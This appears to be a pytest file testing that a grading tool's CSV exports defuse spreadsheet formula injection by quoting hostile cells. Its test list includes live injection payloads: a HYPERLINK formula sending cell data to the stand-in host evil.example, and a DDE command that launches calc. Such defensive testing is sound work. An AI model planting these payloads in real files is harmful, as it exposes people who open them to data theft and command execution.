"""Every CSV export is safe to open in a spreadsheet: hostile names stay text, scores stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from grader.batch.results import ClassResults, LearnerResults
from grader.course.manifest import Course
from grader.platforms.lms import canvas_csv, moodle_csv, moodle_worksheet_csv
from grader.render.class_tables import gradebook_csv
from grader.render.spreadsheet_csv import csv_text, safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-2.5", "-3", "+4", "0", "12.50", "-.5", "-", "Ada", "a=b", "", "ann-2"])
def test_plain_numbers_moodles_no_grade_and_ordinary_text_are_unchanged(text: str) -> None:
    assert safe_cell(text) == text


def test_csv_text_quotes_as_rfc_4180_says() -> None:
    assert csv_text([['Lovelace, Ada "C"', "=1"]], "\r\n") == '"Lovelace, Ada ""C""",\'=1\r\n'


def test_a_field_with_a_carriage_return_is_quoted_whatever_the_line_end() -> None:
    assert csv_text([["a\rb", "c\nd"]]) == '"a\rb","c\nd"\n'
    assert read_back(csv_text([["x\ry", "1"], ["z", "2"]])) == [["x\ry", "1"], ["z", "2"]]


def hostile_class(course: Course) -> ClassResults:
    """A learner per hostile name (also as their id), each with a negative score on the first exercise."""
    leap = course.exercises[0]
    learners = tuple(
        LearnerResults(
            f"{text}-id",
            text,
            (),
            ({"exercise_id": leap.id, "score": -2.5, "max_score": leap.points, "status": "failed"},),
        )
        for text in HOSTILE
    )
    return ClassResults("Mini", (leap,), learners)


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_every_export_neutralises_hostile_names_and_keeps_scores_numbers(mini_course: Course) -> None:
    results = hostile_class(mini_course)
    exports = {
        "gradebook": (gradebook_csv(results), 1, 2),  # (text, name column, first score column)
        "canvas": (canvas_csv(results), 0, 5),
        "moodle": (moodle_csv(results), 0, 2),
        "worksheet": (moodle_worksheet_csv(results), 1, 2),
    }
    for export, (text, name_column, score_column) in exports.items():
        rows = read_back(text)
        learner_rows = [row for row in rows[1:] if row[0] != "Points Possible"]
        assert len(learner_rows) == len(HOSTILE), export
        for row, hostile in zip(learner_rows, HOSTILE, strict=True):
            assert row[name_column] == "'" + hostile, export
            assert row[score_column] == "-2.5", export
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (export, cell)
                assert not cell.startswith("-") or cell == "-" or float(cell) < 0, (export, cell)
